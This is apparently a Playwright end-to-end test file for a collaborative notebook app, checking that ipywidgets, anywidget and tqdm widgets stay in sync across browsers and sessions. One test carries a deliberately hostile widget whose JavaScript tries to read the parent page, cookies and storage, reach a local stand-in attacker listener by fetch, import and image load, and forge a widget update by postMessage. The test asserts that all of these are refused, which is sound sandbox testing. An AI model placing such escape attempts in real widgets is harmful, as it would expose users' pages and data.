"""Widgets, with the real ipywidgets, anywidget and tqdm: one state for all who look."""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import FrameLocator, Locator, expect

from tests.conftest import AntiphonServer
from tests.e2e.conftest import Notebook
from tests.e2e.test_hostile import Listener

pytestmark = [pytest.mark.slow, pytest.mark.browser]

NewNotebook = Callable[[], Notebook]


@pytest.fixture
def attacker() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


def started(new_notebook: NewNotebook, server: AntiphonServer, title: str) -> Notebook:
    notebook = new_notebook()
    notebook.sign_in(server.login_link())
    notebook.new_worksheet(title)
    return notebook


def joined(new_notebook: NewNotebook, server: AntiphonServer, first: Notebook) -> Notebook:
    """A second browser at the same worksheet."""
    other = new_notebook()
    other.sign_in(server.login_link())
    other.open(first.page.url)
    expect(other.cell(1)).to_be_visible()
    return other


def next_cell(notebook: Notebook, number: int, code: str) -> None:
    """Run in the cell that has the focus. To click it would not do: a frame above it may still grow."""
    expect(notebook.cell(number).locator(".cm-content")).to_be_focused()
    notebook.page.keyboard.insert_text(code)
    notebook.page.keyboard.press("Shift+Enter")
    notebook.expect_state(number, "done")


def frame(notebook: Notebook, number: int = 1) -> FrameLocator:
    return notebook.outputs(number).locator("widget-frame iframe").content_frame


def slider(notebook: Notebook, number: int = 1) -> Locator:
    return frame(notebook, number).get_by_role("slider")


def expect_value(notebook: Notebook, value: int) -> None:
    expect(slider(notebook)).to_have_attribute("aria-valuenow", f"{value}.0")


SLIDER = """import ipywidgets
s = ipywidgets.IntSlider(value=3, description="depth")
out = ipywidgets.Output()
def moved(change):
    with out:
        print("moved to", change.new)
s.observe(moved, "value")
ipywidgets.VBox([s, out])"""


def test_a_slider_moves_for_all_python_knows_and_a_reload_keeps_it(
    new_notebook: NewNotebook, shared_server: AntiphonServer
) -> None:
    one = started(new_notebook, shared_server, "slider")
    one.run(1, SLIDER)
    expect_value(one, 3)
    expect(slider(one)).to_have_accessible_name("depth")
    two = joined(new_notebook, shared_server, one)
    expect_value(two, 3)

    slider(one).press("ArrowRight")
    expect_value(two, 4)
    expect(frame(two).get_by_text("moved to 4")).to_be_visible()
    slider(two).press("ArrowRight")
    expect_value(one, 5)
    expect(frame(one).get_by_text("moved to 5")).to_be_visible()
    # What the widget took does not stand under a cell as well.
    expect(one.page.locator("[data-output=stdout]")).to_have_count(0)

    two.page.reload()
    expect_value(two, 5)
    expect(frame(two).get_by_text("moved to 5")).to_be_visible()
    slider(two).press("ArrowRight")
    expect_value(one, 6)
    one.cell(2).locator("code-text, .cm-content").first.focus()
    one.type(2, "print('python has', s.value)")
    one.page.keyboard.press("Shift+Enter")
    expect(one.outputs(2)).to_contain_text("python has 6")


def test_two_who_move_at_once_end_equal(new_notebook: NewNotebook, shared_server: AntiphonServer) -> None:
    one = started(new_notebook, shared_server, "both at once")
    one.run(1, SLIDER)
    expect_value(one, 3)
    two = joined(new_notebook, shared_server, one)
    expect_value(two, 3)
    for _ in range(10):
        slider(one).press("ArrowRight")
        slider(two).press("ArrowLeft")
    # The last word of each, then of one alone: both have it.
    slider(one).press("Home")
    slider(two).press("End")
    texts = frame(one).locator("pre"), frame(two).locator("pre")
    expect(texts[0]).to_contain_text("moved to 100")
    expect(texts[0]).to_contain_text("moved to 0")
    one.page.wait_for_function("document.querySelector('[data-session-state=idle]') !== null")
    expect(texts[1]).to_have_text(texts[0].inner_text())
    expect(slider(two)).to_have_attribute("aria-valuenow", slider(one).get_attribute("aria-valuenow") or "")


def test_an_observer_sees_it_live_and_cannot_move_it(
    new_notebook: NewNotebook, shared_server: AntiphonServer
) -> None:
    ana, guest = started(new_notebook, shared_server, "watched"), new_notebook()
    ana.run(1, SLIDER)
    expect_value(ana, 3)
    ana.page.get_by_role("button", name="Share").click()
    ana.page.get_by_label("Whoever has it").select_option("observe")
    ana.page.get_by_role("button", name="Make a link").click()
    guest.open(ana.page.locator("[data-link-url]").inner_text())
    guest.page.locator("[data-trust] button").click()
    expect_value(guest, 3)
    expect(guest.outputs(1).locator("[data-widget=fixed]")).to_contain_text("Who may run code")
    expect(slider(guest)).to_have_attribute("aria-disabled", "true")
    sent: list[str] = []
    guest.page.on("websocket", lambda socket: socket.on("framesent", lambda data: sent.append(str(data))))
    guest.page.reload()
    expect_value(guest, 3)
    slider(guest).focus()
    guest.page.keyboard.press("ArrowRight")
    ana.page.keyboard.press("Escape")
    slider(ana).press("End")
    expect_value(guest, 100)
    expect_value(ana, 100)
    assert not any("widget.send" in each for each in sent)


def test_tqdm_runs_to_its_end_interact_follows_and_tabs_open(
    new_notebook: NewNotebook, shared_server: AntiphonServer
) -> None:
    one = started(new_notebook, shared_server, "bars")
    one.run(1, "from tqdm.notebook import tqdm\nfor i in tqdm(range(300), desc='work'): pass")
    expect(frame(one).locator("body")).to_contain_text("300/300")
    next_cell(one, 2, "from ipywidgets import *\n@interact(n=(0, 4))\ndef say(n=2): print('hey' * n)")
    expect(frame(one, 2).locator("pre")).to_have_text("heyhey\n")
    slider(one, 2).press("ArrowRight")
    expect(frame(one, 2).locator("pre")).to_have_text("heyheyhey\n")
    one.page.keyboard.press("Escape")
    next_cell_code = "Tab([Label('first'), Label('second')], titles=['One', 'Two'])"
    one.type(3, next_cell_code)
    one.page.keyboard.press("Shift+Enter")
    expect(frame(one, 3).get_by_text("first")).to_be_visible()
    expect(frame(one, 3).get_by_text("second")).to_be_hidden()
    frame(one, 3).get_by_role("tab", name="Two").click()
    expect(frame(one, 3).get_by_text("second")).to_be_visible()


COUNTER = '''import anywidget, traitlets
class Counter(anywidget.AnyWidget):
    _esm = """
    function render({ model, el }) {
      let button = document.createElement("button");
      button.innerHTML = `count is ${model.get("value")}`;
      button.addEventListener("click", () => {
        model.set("value", model.get("value") + 1);
        model.save_changes();
      });
      model.on("change:value", () => { button.innerHTML = `count is ${model.get("value")}`; });
      el.appendChild(button);
    }
    export default { render };
    """
    value = traitlets.Int(0).tag(sync=True)
c = Counter(value=41)
c'''


def test_the_counter_of_anywidget_counts_for_all_and_ends_with_its_session(
    new_notebook: NewNotebook, shared_server: AntiphonServer
) -> None:
    one = started(new_notebook, shared_server, "counter")
    one.run(1, COUNTER)
    two = joined(new_notebook, shared_server, one)
    frame(two).get_by_role("button", name="count is 41").click()
    expect(frame(one).get_by_role("button", name="count is 42")).to_be_visible()
    next_cell(one, 2, SLIDER)
    slider(one, 2).press("ArrowRight")
    expect(slider(two, 2)).to_have_attribute("aria-valuenow", "4.0")
    one.page.get_by_role("button", name="Restart").click()
    one.page.get_by_role("dialog").get_by_role("button", name="Restart").click()
    for notebook in (one, two):
        expect(notebook.outputs(1).locator("[data-widget=fixed]")).to_contain_text("session has ended")
        expect(slider(notebook, 2)).to_have_attribute("aria-disabled", "true")
    two.page.reload()
    expect(frame(two).get_by_role("button", name="count is 42")).to_be_visible()
    expect(slider(two, 2)).to_have_attribute("aria-valuenow", "4.0")
    # It goes back to what the session said last.
    frame(two).get_by_role("button", name="count is 42").click()
    expect(frame(two).get_by_role("button", name="count is 42")).to_be_visible()


HOSTILE = '''import anywidget, traitlets
class Hostile(anywidget.AnyWidget):
    _esm = """
    async function attempt(what, work) {
      try { return `${what}: ${await work()}`; } catch (error) { return `${what}: refused`; }
    }
    export default { async render({ model, el }) {
      const url = "http://127.0.0.1:PORT/";
      const said = await Promise.all([
        attempt("page", () => parent.document.title),
        attempt("cookie", () => document.cookie),
        attempt("storage", () => localStorage.length),
        attempt("fetch", () => fetch(url).then(() => "got out")),
        attempt("rpc", () => fetch("/rpc", { method: "POST", body: "{}" }).then(() => "got out")),
        attempt("import", () => import(url).then(() => "got out")),
        attempt("worker", () => new Promise((done, fail) => {
          const code = new Blob(["postMessage('started')"], { type: "text/javascript" });
          const worker = new Worker(URL.createObjectURL(code));
          worker.onmessage = () => done("started");
          worker.onerror = fail;
        })),
        attempt("image", () => new Promise((done, fail) => {
          const image = new Image();
          [image.onload, image.onerror] = [() => done("got out"), fail];
          image.src = url;
        })),
      ]);
      model.set("value", 1); model.save_changes();
      const data = { method: "update", state: { value: 9 } };
      const message = { what: "send", comm: model.model_id, data, buffers: [], id: "0".repeat(32) };
      parent.postMessage({ antiphon: location.hash.slice(1), type: "widgets", message }, "*");
      el.textContent = said.join("; ");
    } };
    """
    value = traitlets.Int(0).tag(sync=True)
h = Hostile()
h'''


def test_a_hostile_widget_reaches_no_page_no_network_and_moves_nothing_by_itself(
    new_notebook: NewNotebook, shared_server: AntiphonServer, attacker: Listener
) -> None:
    one = new_notebook()
    sent: list[str] = []
    one.page.on("websocket", lambda socket: socket.on("framesent", lambda data: sent.append(str(data))))
    one.sign_in(shared_server.login_link())
    one.new_worksheet("hostile")
    one.run(1, HOSTILE.replace("PORT", str(attacker.port)))
    body = frame(one).locator("body")
    names = ("page", "cookie", "storage", "fetch", "rpc", "import", "worker", "image")
    expect(body).to_contain_text("; ".join(f"{name}: refused" for name in names))
    next_cell(one, 2, "print('python has', h.value)")
    expect(one.outputs(2)).to_contain_text("python has 0")
    assert not any("widget.send" in each for each in sent)
    assert attacker.calls == []


def test_what_this_page_has_no_code_for_is_said(
    new_notebook: NewNotebook, shared_server: AntiphonServer
) -> None:
    one = started(new_notebook, shared_server, "unknown")
    one.run(
        1,
        "import anywidget, ipywidgets, traitlets\n"
        "class Odd(ipywidgets.DOMWidget):\n"
        "    _model_name = _view_name = traitlets.Unicode('Odd').tag(sync=True)\n"
        "    _model_module = _view_module = traitlets.Unicode('elsewhere').tag(sync=True)\n"
        "    def __repr__(self): return 'odd as text'\n"
        "Odd()",
    )
    expect(frame(one).locator("body")).to_contain_text("no code for widgets of elsewhere")
    expect(frame(one).locator("body")).to_contain_text("odd as text")
    next_cell(one, 2, "class Far(anywidget.AnyWidget):\n    _esm = 'import \"https://esm.sh/x\"'\nFar()")
    expect(frame(one, 2).locator("body")).to_contain_text("imports from elsewhere")
    next_cell(one, 3, "w = ipywidgets.IntText(7)\ndisplay(w)\nw.close()")
    expect(one.outputs(3)).to_contain_text("The state of this widget is not known any more.")
